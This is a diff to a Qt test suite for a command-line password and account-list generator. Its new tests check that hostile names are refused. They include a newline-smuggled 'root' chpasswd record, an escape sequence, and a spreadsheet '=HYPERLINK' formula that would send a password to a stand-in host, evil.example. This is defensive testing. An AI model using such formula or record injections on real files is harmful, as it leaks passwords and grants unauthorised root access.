@@ -8,6 +8,7 @@
 #include <QMap>
 #include <QProcess>
 #include <QRegularExpression>
+#include <QSet>
 #include <QTemporaryDir>
 #include <QtTest>
 
@@ -157,6 +158,9 @@ private slots:
     void closedPipeEndsTheRunQuietly();
     void noSecureRandomNumbersWriteNothing_data();
     void noSecureRandomNumbersWriteNothing();
+    void hostileNamesLeaveNoFile_data();
+    void hostileNamesLeaveNoFile();
+    void randomUsernamesOfAccountsAreAllDifferent();
     void readersGetTheNamesBack_data();
     void readersGetTheNamesBack();
     void hashesAreThoseOfThePlainPasswords_data();
@@ -218,6 +222,21 @@ void TestCli::recordsFollowTheOptions_data()
     QTest::newRow("names from a file in CSV, with the chosen password characters")
         << QStringList{u"--names"_s, u"names.txt"_s, u"-F"_s, u"csv"_s, u"-s"_s, u"alphabetic"_s} << "x\ny\n"_ba
         << u"[A-Za-z]{16},x,[A-Za-z]{16},y"_s;
+    QTest::newRow("a byte order mark before the first name is no part of its chpasswd record")
+        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s} << "\357\273\277zoe\nbob\n"_ba
+        << u"zoe:[A-Za-z0-9]{16}\nbob:[A-Za-z0-9]{16}\n"_s;
+    QTest::newRow("root gets a chpasswd record when system accounts are allowed")
+        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s, u"--allow-system-accounts"_s} << "root\n"_ba
+        << u"root:[A-Za-z0-9]{16}\n"_s;
+    QTest::newRow("a Latin-1 list is written as it is where no person reads the records")
+        << QStringList{u"-f"_s, u"-"_s} << "Zo\xeb\n"_ba << u"[A-Za-z0-9]{16},Zo\uFFFD\n"_s;
+    QTest::newRow("no numeric password of a table starts with 0, which spreadsheets drop")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"6"_s, u"-n"_s, u"20000"_s} << QByteArray()
+        << u"password\r\n([1-9][0-9]{5}\r\n)+"_s;
+    QTest::newRow("no symbol password of a table starts with = + - @ ', which spreadsheets run or hide")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"symbols"_s, u"--exclude"_s, u"0123456789"_s, u"-n"_s, u"20000"_s}
+        << QByteArray()
+        << u"password\r\n([A-Za-z!#$%^&*()_;:\\]\\[{}.<>][A-Za-z!@#$%^&*()_+=\\-';:\\]\\[{}.<>]{15}\r\n)+"_s;
     QTest::newRow("a title that reads as one of the toolkit's own options is only a title")
         << QStringList{u"--title"_s, u"-platform"_s, u"--slips"_s, u"slips.pdf"_s} << QByteArray()
         << u"[A-Za-z0-9]{16}\n"_s;
@@ -291,6 +310,20 @@ void TestCli::usageErrorsWriteNothing_data()
     QTest::newRow("every class when the exclusions empty one is refused")
         << QStringList{u"--every-class"_s, u"--exclude"_s, u"0123456789"_s}
         << "varnel-cli: --every-class: --exclude leaves a class of the characters without any"_ba;
+    QTest::newRow("a prefix holding a line feed, which would write a root record, is refused")
+        << QStringList{u"-u"_s, u"numbered"_s, u"--prefix"_s, u"evil\nroot"_s}
+        << "varnel-cli: --prefix: a prefix holding the control character 0x0A is refused"_ba;
+    QTest::newRow("more random usernames for accounts than can be drawn all different are refused")
+        << QStringList{u"-u"_s,      u"random"_s, u"-l"_s,  u"3"_s,  u"-s"_s,
+                       u"numeric"_s, u"-n"_s,     u"501"_s, u"-F"_s, u"table"_s}
+        << "varnel-cli: --count: random usernames of these characters and length are drawn all different for 500 "
+           "accounts at most"_ba;
+    QTest::newRow("random usernames that may start a formula in a table are refused")
+        << QStringList{u"-u"_s, u"random"_s, u"-s"_s, u"symbols"_s, u"--plain"_s, u"plain.csv"_s}
+        << "varnel-cli: --usernames: random usernames of these characters may start with '='"_ba;
+    QTest::newRow("exclusions that leave a table no password a spreadsheet keeps are refused")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"1"_s, u"--exclude"_s, u"123456789"_s}
+        << "varnel-cli: --exclude: leaves no password a spreadsheet keeps as it is"_ba;
     QTest::newRow("an option without its value is named") << QStringList{u"-l"_s} << "varnel-cli: -l: missing value"_ba;
     QTest::newRow("an argument that is no option is refused")
         << QStringList{u"extra"_s} << "varnel-cli: 'extra': unexpected argument"_ba;
@@ -505,6 +538,65 @@ void TestCli::noSecureRandomNumbersWriteNothing()
     QCOMPARE(entriesOf(folder.path()), QStringList());
 }
 
+void TestCli::hostileNamesLeaveNoFile_data()
+{
+    QTest::addColumn<QStringList>("arguments");
+    QTest::addColumn<QByteArray>("names");
+    QTest::addColumn<QByteArray>("message");
+
+    QTest::newRow("root in a list for chpasswd is refused")
+        << QStringList{u"-F"_s, u"chpasswd"_s} << "alice\nroot\n"_ba
+        << "varnel-cli: names.txt: line 2: root is an account of the system itself (--allow-system-accounts lets it "
+           "through)\n"_ba;
+    QTest::newRow("bob twice in a list for accounts is refused, naming both lines")
+        << QStringList{u"-F"_s, u"table"_s} << "bob\nalice\n\nbob\n"_ba
+        << "varnel-cli: names.txt: line 4: bob is also on line 1\n"_ba;
+    QTest::newRow("an escape inside a name is refused even in plain lines")
+        << QStringList{} << "alice\n\x1b[2Jbob\n"_ba
+        << "varnel-cli: names.txt: line 2: a username holding the control character 0x1B is refused\n"_ba;
+    QTest::newRow("a Latin-1 list is refused for slips")
+        << QStringList{u"--slips"_s, u"slips.pdf"_s} << "Zo\xeb \xc5ngstr\xf6m\n"_ba
+        << "varnel-cli: names.txt: line 1: a username that is not valid UTF-8 text is refused (save the list as "
+           "UTF-8)\n"_ba;
+    QTest::newRow("a hyperlink that would carry a password away is refused for the plain table")
+        << QStringList{u"--plain"_s, u"plain.csv"_s}
+        << "alice\n=HYPERLINK(\"http://evil.example/?pw=\"&B3,\"Verify your account\")\n"_ba
+        << "varnel-cli: names.txt: line 2: a username starting with '=' is refused: spreadsheets run it as a "
+           "formula\n"_ba;
+}
+
+void TestCli::hostileNamesLeaveNoFile()
+{
+    QFETCH(QStringList, arguments);
+    QFETCH(QByteArray, names);
+    QFETCH(QByteArray, message);
+
+    QTemporaryDir folder;
+    QVERIFY(folder.isValid());
+    createFile(folder.filePath(u"names.txt"_s), names);
+    const Outcome outcome = run(folder.path(), QStringList{u"-f"_s, u"names.txt"_s, u"-o"_s, u"out.txt"_s} + arguments);
+
+    QCOMPARE(outcome.status, 1);
+    QCOMPARE(outcome.out, QByteArray());
+    QCOMPARE(outcome.err, message);
+    QCOMPARE(entriesOf(folder.path()), QStringList{u"names.txt"_s});
+}
+
+// Without being drawn unique, 20,000 usernames of six digits repeat about 200 of them.
+void TestCli::randomUsernamesOfAccountsAreAllDifferent()
+{
+    QTemporaryDir folder;
+    QVERIFY(folder.isValid());
+    const Outcome outcome = run(
+        folder.path(),
+        {u"-u"_s, u"random"_s, u"-l"_s, u"6"_s, u"-s"_s, u"numeric"_s, u"-n"_s, u"20000"_s, u"-F"_s, u"chpasswd"_s});
+    QCOMPARE(outcome.status, 0);
+    QSet<QByteArray> usernames;
+    for (const QList<QByteArray>& record : chpasswdRecords(outcome.out))
+        usernames.insert(record[0]);
+    QCOMPARE(usernames.size(), 20000);
+}
+
 void TestCli::readersGetTheNamesBack_data()
 {
     QTest::addColumn<QString>("format");
@@ -520,13 +612,12 @@ void TestCli::readersGetTheNamesBack_data()
            "map(json.loads, sys.stdin.buffer.read().decode().splitlines())]))"_s;
 }
 
-// Names with commas, quotes, a carriage return, a backslash and letters beyond ASCII, as a class list may hold.
+// Names with commas, quotes, a backslash and letters beyond ASCII, as a class list may hold.
 void TestCli::readersGetTheNamesBack()
 {
     QFETCH(QString, format);
     QFETCH(QString, reader);
-    const QStringList names{u"Smith, John"_s, u"O\"Brien \"Jr\""_s, u"carriage\rreturn"_s, u"back\\slash"_s,
-                            u"Zoë Ångström"_s};
+    const QStringList names{u"Smith, John"_s, u"O\"Brien \"Jr\""_s, u"back\\slash"_s, u"Zoë Ångström"_s};
 
     QTemporaryDir folder;
     QVERIFY(folder.isValid());
@@ -627,6 +718,10 @@ void TestCli::entropyComesFirstOnStandardError_data()
     QTest::newRow("exclusions count, and those the characters never held are named")
         << QStringList{u"-s"_s, u"numeric"_s, u"--exclude"_s, u"9~"_s}
         << "entropy: 50.7 bits per password\nentropy: --exclude: '~' not among the characters\n"_ba;
+    QTest::newRow("a table's 16 digits never starting with 0 give 53.0 bits, then the spreadsheets' warning")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"16"_s}
+        << "entropy: 53.0 bits per password\nvarnel-cli: warning: spreadsheets show all-digit passwords of 16 or "
+           "more digits as numbers, the digits after the 15th lost; open the password column as text\n"_ba;
 }
 
 void TestCli::entropyComesFirstOnStandardError()
@@ -640,7 +735,7 @@ void TestCli::entropyComesFirstOnStandardError()
 
     QCOMPARE(outcome.status, 0);
     QCOMPARE(outcome.err, entropy);
-    QCOMPARE(outcome.out.count('\n'), 2);
+    QCOMPARE(outcome.out.count('\n'), arguments.contains(u"table"_s) ? 3 : 2);
 }
 
 void TestCli::slipsHoldEveryTextWhole_data()
@@ -757,6 +852,7 @@ void TestCli::helpListsEveryOptionWithItsDefault()
                              "(default: lines)",
                              "-o, --output <FILE>",
                              "--force",
+                             "--allow-system-accounts",
                              "--hash <METHOD>",
                              "--plain <FILE>",
                              "--slips <FILE>",
